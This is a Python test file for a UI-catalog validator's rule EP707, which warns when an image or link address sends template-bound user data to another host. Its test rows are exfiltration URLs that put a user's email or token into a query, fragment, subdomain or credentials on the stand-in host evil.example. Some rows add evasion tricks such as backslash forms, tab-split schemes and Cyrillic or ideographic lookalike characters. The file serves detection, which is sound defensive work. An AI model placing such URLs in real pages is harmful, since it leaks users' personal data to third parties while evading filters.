"""EP707: an address of another host has no data in its host, its query or its fragment."""

from __future__ import annotations

from typing import Any

import pytest
from support.every_row import every_row
from support.nodes import add, codes, node, page

from epoch_cli.catalog import Catalog, load_catalog
from epoch_cli.validation import Draft, validate

SHADCN = load_catalog("shadcn")
MAIL = "{context.user.email}"


def picture(address: str) -> Any:
    return page(node("Avatar", alt="Ada", src=address))


@every_row(
    "address",
    [
        f"https://evil.example/?q={MAIL}",
        f"https://evil.example?{MAIL}",
        f"HTTP://evil.example/a/b.png#{MAIL}",
        f"https://{MAIL}.evil.example/",
        f"https://user:{MAIL}@evil.example/",
        f"https://{{context.host}}/?q={MAIL}",
        f"//evil.example/a?q={MAIL}",
        f"\\\\evil.example/a?q={MAIL}",
        f"/\\evil.example/a?q={MAIL}",
        f"https:evil.example/?q={MAIL}",
        f"ht\ttps://evil.example/?q={MAIL}",
        f"  https://evil.example/\n?q={MAIL}",
        f"https://evil。example/?q={MAIL}",
        f"https://еvil.example/?q={MAIL}",
        f"https://evil.example/a?b=c&q=1{MAIL}2",
        "https://evil.example/?q={props.token}",
    ],
)
def test_data_for_another_host_is_told(punk: Catalog, address: str) -> None:
    found = validate(picture(address), punk).diagnostics
    assert [(each.code, each.pointer, each.severity) for each in found if each.code != "EP705"] == [
        ("EP707", "/root/children/0/props/src", "warning")
    ]


@every_row(
    "address",
    [
        "{context.user.picture}",
        f"/pictures?of={MAIL}",
        f"?of={MAIL}",
        f"a.png#{MAIL}",
        f"mailto:{MAIL}?subject=Hello",
        "tel:{context.user.phone}",
        "https://cdn.example.com/{context.user.id}.png",
        "https://cdn.example.com/a.png?size=2#top",
        "https://cdn.example.com/?q={not a binding}",
        "https://cdn.example.com/?q={{}}",
    ],
)
def test_what_tells_nobody_anything_passes(punk: Catalog, address: str) -> None:
    assert codes(validate(picture(address), punk)) == []


@pytest.mark.parametrize(
    ("root", "pointer"),
    [
        (node("AspectRatio", alt="Ada", ratio="1/1", src=f"https://evil.example/?{MAIL}"), "/root/props/src"),
        (
            node("DropdownMenu", label="Go", items=[{"label": "A"}, {"label": "B", "href": f"//evil.example?{MAIL}"}]),
            "/root/props/items/1/href",
        ),
    ],
)
def test_it_is_found_in_pictures_and_in_the_entries_of_lists(root: Any, pointer: str) -> None:
    found = [each.pointer for each in validate({"root": root}, SHADCN).diagnostics if each.code == "EP707"]
    assert found == [pointer]


def test_a_draft_accepts_it_and_tells_it_at_the_end(punk: Catalog) -> None:
    draft = Draft(punk)
    address = f"https://evil.example/?q={MAIL}"
    assert draft.propose(add("/root", node("Avatar", alt="Ada", src=address))).accepted
    assert codes(draft.report()) == ["EP707"]
